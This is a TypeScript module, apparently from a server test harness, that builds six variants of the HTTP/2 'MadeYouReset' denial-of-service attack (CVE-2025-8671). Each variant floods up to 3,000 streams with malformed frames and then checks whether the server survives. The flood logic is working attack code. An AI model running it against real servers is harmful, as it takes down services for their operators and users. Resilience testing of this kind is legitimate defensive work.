import type { Attack } from "../attack.ts"
import { flood } from "../flood.ts"
import { block } from "../hpack.ts"
import { request } from "../peer.ts"
import * as wire from "../wire.ts"

const HOLD = block(request("/abuse.Attack/Hold"))
const { END_HEADERS, END_STREAM } = wire.Flag
/** How many calls go out before the first offence: enough for each to have left for the backend. */
const LAG = 8

/** CVE-2025-8671, "MadeYouReset": the server is made to reset the stream itself, so no count of client resets sees it. */
const offences: [name: string, how: string, offence: (streamId: number) => Buffer][] = [
  ["window-zero", "WINDOW_UPDATE of 0", (id) => wire.windowUpdate(id, 0)],
  ["window-overflow", "WINDOW_UPDATE past 2^31-1", (id) => wire.windowUpdate(id, 2 ** 31 - 1)],
  ["data-after-end", "DATA after END_STREAM", (id) => wire.data(id, Buffer.from("late"))],
  ["headers-after-end", "HEADERS after END_STREAM", (id) => wire.headers(id, HOLD)],
  ["priority-self", "PRIORITY that depends on itself", (id) => wire.priority(id, id)],
  [
    "priority-length",
    "PRIORITY of 4 octets",
    (id) => wire.frame(wire.FrameType.PRIORITY, 0, id, Buffer.alloc(4)),
  ],
]

export const madeToReset: Attack[] = offences.map(([name, how, offence]) => ({
  name: `made-to-reset-${name}`,
  source: "CVE-2025-8671; RFC 9113 §5.4.2",
  how: `a whole request and, once it is on its way, ${how} on its stream, up to 3,000 times`,
  side: "downstream",
  pace: "flood",
  counters: [
    "abuse_exhausted",
    "abuse_made_to_reset",
    "window_overflow",
    "streams_refused",
    "control_frames_queued",
    "unsent_octets_paused",
  ],
  bar: {
    held: "about 1,000 calls at the backend, in all and at once, and no more",
    // Who ignores the offence (PRIORITY may be) resets nothing, and the stream limit bounds the calls.
    end: "may",
    callsMax: 1100,
    liveMax: 1000,
  },
  async run(stage) {
    const peer = await stage.connect()
    const sight = await flood(peer, stage, {
      blow: (i) => {
        const open = wire.headers(2 * i + 1, HOLD, END_HEADERS | END_STREAM)
        return i < LAG ? open : Buffer.concat([open, offence(2 * (i - LAG) + 1)])
      },
      framesPerBlow: 2,
      blowsMax: 3000,
      batch: 4,
    })
    const made = [...peer.resets.values()].filter((code) => code !== wire.ErrorCode.REFUSED_STREAM).length
    if (made > 0 && !peer.over) sight.wrong.push(`made to reset ${made} streams, and the connection goes on`)
    return sight
  },
}))
